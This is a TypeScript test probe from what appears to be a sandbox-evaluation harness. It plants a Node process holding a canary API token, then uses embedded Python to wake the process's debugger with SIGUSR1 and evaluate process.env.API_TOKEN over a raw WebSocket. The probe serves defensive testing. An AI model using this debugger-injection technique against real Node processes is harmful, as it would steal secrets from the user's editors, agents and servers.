import { createServer } from 'node:net';
import type { Probe } from '../../probe.ts';
import type { Scene } from '../../scene.ts';
import { marked, seeking } from './stand-in.ts';

const ports = new WeakMap<Scene, number>();

/** One that is free now. */
function freePort(): Promise<number> {
  const server = createServer();
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      server.close(() => resolve(typeof address === 'object' ? (address?.port ?? 0) : 0));
    }),
  );
}

async function plant(scene: Scene): Promise<void> {
  const port = await freePort();
  ports.set(scene, port);
  const program = "console.log('ready'); setInterval(() => {}, 1e6)";
  const argv = [process.execPath, `--inspect-port=127.0.0.1:${port}`, '-e', program, '--'];
  await scene.process(marked(scene, ...argv), { PATH: '/usr/local/bin:/usr/bin:/bin', API_TOKEN: scene.canary });
}

// The debugger speaks WebSocket: one handshake, one masked frame with an expression.
const DEBUG = (port: number) => `
import base64, json, signal, socket, time, urllib.request
woken = False
for pid in stand_ins():
    try:
        os.kill(pid, signal.SIGUSR1)
        woken = True
    except OSError as error: print(error)
targets = []
for attempt in range(100 if woken else 1):
    try:
        targets = json.load(urllib.request.urlopen('http://127.0.0.1:${port}/json/list'))
        break
    except OSError: time.sleep(0.05 if woken else 0)
for target in targets:
    s = socket.create_connection(('127.0.0.1', ${port}))
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(f"GET /{target['id']} HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: {key}\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n".encode())
    text = json.dumps({'id': 1, 'method': 'Runtime.evaluate', 'params': {'expression': 'process.env.API_TOKEN'}}).encode()
    s.recv(4096)
    s.sendall(bytes([0x81, 0x80 | len(text)]) + bytes(4) + text)
    show(s.recv(4096))
`;

export const INSPECTOR: Probe = {
  id: 'processes/inspector',
  title: 'opening the debugger of a Node process with SIGUSR1',
  gives: "code of one's own in the user's Node programs: editors, agents, servers",
  planted: 'a Node process of the user that has a secret in its environment',
  tried: 'SIGUSR1, then an expression over its debugger port',
  reference: 'https://nodejs.org/en/learn/getting-started/debugging#security-implications',
  promise: 'processes',
  plant,
  trial: (scene) => ({ python: seeking(scene) + DEBUG(ports.get(scene) ?? 0) }),
};
